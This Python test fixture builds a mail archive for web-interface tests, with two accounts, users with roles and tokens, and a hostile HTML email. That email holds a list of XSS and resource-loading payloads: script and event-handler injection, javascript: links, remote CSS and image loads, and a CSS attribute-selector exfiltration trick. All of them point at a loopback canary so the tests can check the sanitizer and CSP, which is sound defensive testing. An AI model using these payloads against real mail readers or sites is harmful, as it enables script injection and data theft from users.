"""The web archive's test archive: two accounts, the normalizer corpus, hostile HTML, users.

Why: the web tests need mail a reader may and may not see (accounts ``work`` and
``home``), a thread, attachments, a cid: image, and HTML written to attack the
reader's browser. :func:`build_archive` fills an archive (SQLite or PostgreSQL)
and returns what the tests need to know about it.

The hostile corpus points every remote reference at ``canary`` (a loopback HTTP
server the browser tests run, which records any request it gets): a sanitizer
or CSP slip shows up as a hit there, or as a request the page made.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from syncer.archive.store import ArchiveStore
from syncer.model import RemoteMessage
from syncer.sync.normalize import normalize_pending
from syncer.web.auth import hash_password, new_token, token_digest
from tests.mail_samples import mail

WORK = [
    "02-multipart-alternative",
    "04-nested-mixed-alternative-related",
    "10-unsafe-filenames",
    "30-euc-kr-rfc2047",
    "70-thread-root",
    "71-thread-reply",
    "87-auth-results-fail-phishing",
]
#: In ``home`` only: a reader of ``work`` must never reach these.
HOME = ["08-rfc2231-filename", "72-thread-reply-to-reply", "61-address-forms"]
PASSWORD = "correct horse battery"
#: name -> (role, accounts)
USERS = {
    "root": ("admin", ()),
    "audrey": ("auditor", ()),
    "rita": ("reader", ("work",)),
    "hank": ("reader", ("home",)),
    "lena": ("reader", ("home",)),  # the lockout test's own victim
}

_HOSTILE_PARTS = [
    "<script>document.title='pwned-script';fetch('{canary}/script')</script>",
    "<img src=x onerror=\"document.title='pwned-onerror'\">",
    "<a id=js href=\"javascript:document.title='pwned-js'\">click</a>",
    '<img src="{canary}/remote.png" alt=remote>',
    '<link rel=stylesheet href="{canary}/remote.css">',
    "<style>@import url('{canary}/import.css'); body{{background:url('{canary}/bg.png')}}</style>",
    "<div style=\"background-image:url('{canary}/inline-style.png')\">styled</div>",
    '<form action="{canary}/form" method=post><input name=q value=x><button>Go</button></form>',
    '<meta http-equiv=refresh content="0;url={canary}/refresh">',
    "<svg onload=\"document.title='pwned-svg'\"><script>document.title='pwned-svg2'</script>"
    '<image href="{canary}/svg.png"/></svg>',
    '<iframe src="{canary}/frame"></iframe><object data="{canary}/object"></object>',
    '<input name=secret value="a">'
    "<style>input[value^=a]{{background:url('{canary}/exfil-a')}}</style>",
    '<img srcset="{canary}/srcset.png 1x"><video poster="{canary}/poster.png"></video>',
    '<base href="{canary}/base/"><a href=relative>relative link</a>',
    "<p id=visible>Hostile but readable text</p>",
]


def hostile_message(canary: str) -> bytes:
    """An HTML message trying every way to run script or reach the network."""
    body = "\n".join(part.format(canary=canary) for part in _HOSTILE_PARTS)
    return (
        "From: Mallory <mallory@evil.example>\r\n"
        "To: rita@work.example\r\n"
        "Subject: Hostile HTML corpus\r\n"
        "Date: Mon, 02 Dec 2024 10:00:00 +0000\r\n"
        "Message-ID: <hostile@evil.example>\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n"
        "\r\n" + body.replace("\n", "\r\n") + "\r\n"
    ).encode()


@dataclass
class WebArchive:
    """What a web test knows about the archive it runs on."""

    url: str
    ids: dict[str, int] = field(default_factory=dict)
    shas: dict[str, str] = field(default_factory=dict)
    tokens: dict[str, str] = field(default_factory=dict)


def _add(store: ArchiveStore, account: str, raws: list[bytes]) -> None:
    store.ensure_account(account, "imap")
    store.archive_batch(
        account,
        "INBOX",
        1,
        [
            RemoteMessage(
                folder="INBOX", uid=i + 1, raw=raw, flags=("\\Seen",), labels=("Projects",)
            )
            for i, raw in enumerate(raws)
        ],
        None,
    )


def build_archive(url: str, canary: str) -> WebArchive:
    """Fill the archive at ``url`` (migrated, empty) and add the users and their tokens."""
    import hashlib

    result = WebArchive(url)
    raws = {name: mail(name) for name in WORK + HOME}
    raws["hostile"] = hostile_message(canary)
    with ArchiveStore.open(url, migrate=True) as store:
        _add(store, "work", [raws[n] for n in [*WORK, "hostile"]])
        _add(store, "home", [raws[n] for n in HOME])
        normalize_pending(store, workers=1)
        for name, raw in raws.items():
            sha = hashlib.sha256(raw).hexdigest()
            result.shas[name] = sha
            result.ids[name] = store.find_message(sha)
        hashed = hash_password(PASSWORD)
        for user, (role, accounts) in USERS.items():
            store.add_user(user, role, hashed, accounts, actor="test")
            token = new_token()
            store.add_token(user, token_digest(token), actor="test")
            result.tokens[user] = token
    return result
